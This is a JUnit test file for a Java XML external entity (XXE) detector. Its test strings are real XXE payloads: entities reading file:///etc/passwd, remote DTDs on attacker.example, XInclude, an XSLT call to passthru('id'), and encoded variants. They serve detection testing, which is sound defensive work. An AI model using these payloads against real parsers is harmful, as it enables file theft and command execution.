package dev.lambdaguard.input.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;

import dev.lambdaguard.input.Category;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** DTDs, entities, XInclude and XSLT that make a parser fetch or expand; plain XML and HTML doctypes do not. */
class XxeDetectorTest {

  private final XxeDetector detector = new XxeDetector();

  private Detection detect(String value) {
    return detector.detect(Normalized.of(value));
  }

  private void assertRule(String rule, String value) {
    Detection d = detect(value);
    assertNotNull(d, value);
    assertEquals(Category.XXE, d.category());
    assertEquals(rule, d.ruleId(), value);
  }

  @Test
  void theDetectorIsForXmlExternalEntities() {
    assertEquals(Category.XXE, detector.category());
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
      "<!ENTITY % ext SYSTEM \"http://attacker.example/ext.dtd\">", "<!ENTITY x PUBLIC \"id\" \"http://x.example/\">",
      "<!entity x system \"file:///\">", "<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n  <!ENTITY  %  p   SYSTEM 'x'>\n]>",
      "<soap:Body><![CDATA[<!DOCTYPE d [<!ENTITY % dtd SYSTEM \"http://x/\"> %dtd;]>]]></soap:Body>"})
  void externalEntityDeclarationsAreExternalEntities(String value) {
    assertRule(XxeDetector.EXTERNAL_ENTITY, value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "<!DOCTYPE d [<!ENTITY a0 \"dos\"><!ENTITY a1 \"&a0;&a0;&a0;\">]><d>&a1;</d>", "<!ENTITY foo \"aaaaaa\">",
      "<!DOCTYPE xxe [<!ENTITY foo \"aaaaaa\">]>"})
  void internalEntityDeclarationsAreEntityExpansion(String value) {
    assertRule(XxeDetector.ENTITY, value);
  }

  @ParameterizedTest
  @ValueSource(strings = {"%foo;", " %dtd; %send; ", "    %local_dtd;\n]>\n<root></root>", "%xxe;]>"})
  void parameterEntityReferencesInDtdContextOrAloneAreParameterEntities(String value) {
    assertRule(XxeDetector.PARAMETER_ENTITY, value);
  }

  @Test
  void aParameterReferenceIsInDtdContextWhereverTheMarkupIsAfterAFlood() {
    // "<!" is looked for only in a value with a "!", and both marks from their rarer character: near misses
    // ("<x>", "] >") 100 KB long, then the mark
    String flood = "%xy; <x> ] > <".repeat(100_000 / 14);
    assertNull(detect(flood));
    assertNull(detect(flood + " !"));
    for (String mark : new String[] {"<!-- -->", "]>", "<!x"}) {
      assertRule(XxeDetector.PARAMETER_ENTITY, flood + mark);
      assertRule(XxeDetector.PARAMETER_ENTITY, mark + flood);
      assertEquals(detect("%xy; " + mark), detect(flood + mark));
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "<!DOCTYPE data SYSTEM \"http://attacker.example/evil.dtd\"><data>&send;</data>",
      "<!DOCTYPE x PUBLIC \"-//A//B\" \"http://attacker.example/y.dtd\">"})
  void doctypesWithAnExternalIdAreExternalDtds(String value) {
    assertRule(XxeDetector.EXTERNAL_DTD, value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "<!DOCTYPE foo [ <!ELEMENT foo ANY> ]><foo/>", "<!ELEMENT foo ANY>", "<!ATTLIST a b CDATA #IMPLIED>"})
  void internalSubsetsAndMarkupDeclarationsAreDoctypes(String value) {
    assertRule(XxeDetector.DOCTYPE, value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\">"
          + "<xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
      "<x:include xmlns:x=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\"/>",
      "<xi:include href=\"/etc/passwd\"/>"})
  void xincludeElementsAreXinclude(String value) {
    assertRule(XxeDetector.XINCLUDE, value);
  }

  @Test
  void xsltStylesheetsAndFragmentsAreXsltAndMoreSoWhenTheyReadFilesOrCallExtensions() {
    String plain = "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
        + "<xsl:template match=\"/\"><b>hi</b></xsl:template></xsl:stylesheet>";
    String reading = "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
        + "<xsl:template match=\"/\"><xsl:copy-of select=\"document('/etc/passwd')\"/></xsl:template></xsl:stylesheet>";
    String calling = "<xsl:transform version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" "
        + "xmlns:php=\"http://php.net/xsl\"><xsl:value-of select=\"php:function('passthru','id')\"/></xsl:transform>";
    assertEquals(new Detection(Category.XXE, XxeDetector.XSLT, 70), detect(plain));
    assertEquals(new Detection(Category.XXE, XxeDetector.XSLT, 90), detect(reading));
    assertEquals(new Detection(Category.XXE, XxeDetector.XSLT, 90), detect(calling));
    assertEquals(new Detection(Category.XXE, XxeDetector.XSLT, 60), detect("<xsl:value-of select=\"name\"/>"));
    assertEquals(new Detection(Category.XXE, XxeDetector.XSLT, 90),
        detect("<xsl:value-of select=\"unparsed-text('/etc/passwd')\"/>"));
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "&lt;!DOCTYPE x [&lt;!ENTITY y SYSTEM \"file:///etc/passwd\"&gt;]&gt;",
      "%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/passwd%22%3E", "%253C%2521ENTITY%2520x%2520SYSTEM%2520%2522f%2522%253E",
      "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ENTITY xxe SYSTEM "
          + "+ACI-file:///etc/passwd+ACI-+AD4AXQA+-",
      "＜!ENTITY x SYSTEM \"file:///\"＞"})
  void encodedDeclarationsAreRecognisedOnceDecoded(String value) {
    assertRule(XxeDetector.EXTERNAL_ENTITY, value);
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "<!DOCTYPE html>", "<!doctype html><html><body>Hi</body></html>",
      "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
          + "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
      "<?xml version=\"1.0\"?><note><to>Tove</to><body>Don't forget me</body></note>", "<!-- -->", "<!-- a comment -->",
      "20% off; today only", "printf(\"%s;%d;\", a, b)", "100%;", "set PATH=%PATH%;C:\\bin", "a < b and c > d",
      "<b:include name='post'/>", "<svg><text>hi</text></svg>", "<![CDATA[x < y]]>", "Use &amp; for ampersands",
      "The ENTITY keyword and the DOCTYPE", "+ADw-script+AD4- is UTF-7", "C++ and a+b",
      "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"><xs:element name=\"a\"/></xs:schema>"})
  void plainXmlHtmlDoctypesAndPercentSignsAreNotXxe(String value) {
    assertNull(detect(value), value);
  }

  @Test
  void declarationsAmongCommentsAreStillFoundInAnyCase() {
    String comments = "<!--".repeat(1000);
    assertRule(XxeDetector.EXTERNAL_ENTITY, comments + "<!entity x SYSTEM \"file:///etc/passwd\">");
    assertRule(XxeDetector.DOCTYPE, comments + "<!-- x --><!doctype x [<!-- -->]>");
    assertRule(XxeDetector.DOCTYPE, comments + "<!Attlist a b CDATA #IMPLIED>");
    assertRule(XxeDetector.DOCTYPE, comments + "<!NOTATION n SYSTEM \"x\">");
    assertNull(detect(comments + "<!-- <!x --> <!--> <!"));
    for (int gap = 0; gap <= 20; gap++) {
      // markup after any gap: the next < is looked for by hand over a few characters, then by indexOf
      assertRule(XxeDetector.EXTERNAL_ENTITY, "<a>" + "x".repeat(gap) + "<!ENTITY x SYSTEM \"f\">");
    }
  }

  @Test
  void aMegabyteOfNearMissesCompletes() {
    String[] nearMisses = {"<!DOCTYPE html>", "<!ENTIT", "<a:includ ", "<x:include ", "%s; ",
        "<xs:element name=\"a\"/>",
        "+ADw-", "<!DOCTYPE " + "x".repeat(600), "<!DOCTYPE", "<!DOCTYPE a", "<!doctype a b"};
    for (String nearMiss : nearMisses) {
      String value = nearMiss.repeat(1_000_000 / nearMiss.length());
      assertNull(detect(value), nearMiss.substring(0, Math.min(20, nearMiss.length())));
    }
  }

  @Test
  void aMegabyteOfDeclarationsKeepsItsVerdict() {
    for (String unit : new String[] {"<!ELEMENT", "<!ATTLIST", "<!NOTATION", "<!element a"}) {
      assertRule(XxeDetector.DOCTYPE, unit.repeat(1_000_000 / unit.length()));
    }
    assertRule(XxeDetector.ENTITY, "<!ENTITY".repeat(1_000_000 / 8));
  }

  @Test
  void aStrongerDeclarationAfterAFloodOfDeclarationsIsFound() {
    int size = 100_000;
    assertRule(XxeDetector.EXTERNAL_ENTITY, "<!DOCTYPE".repeat(size / 9) + "<!ENTITY x SYSTEM \"file:///etc/passwd\">");
    assertRule(XxeDetector.EXTERNAL_ENTITY,
        "<!ELEMENT".repeat(size / 9) + "<!entity x SYSTEM \"file:///etc/passwd\">");
    assertRule(XxeDetector.EXTERNAL_DTD,
        "<!ENTITY".repeat(size / 8) + "<!DOCTYPE x SYSTEM \"http://e.example/x.dtd\">");
    assertRule(XxeDetector.DOCTYPE, "<!DOCTYPE".repeat(size / 9) + "<!doctype x [<!-- -->]>");
    assertRule(XxeDetector.DOCTYPE, "<!DOCTYPE".repeat(size / 9) + "<!Notation n SYSTEM \"x\">");
  }
}
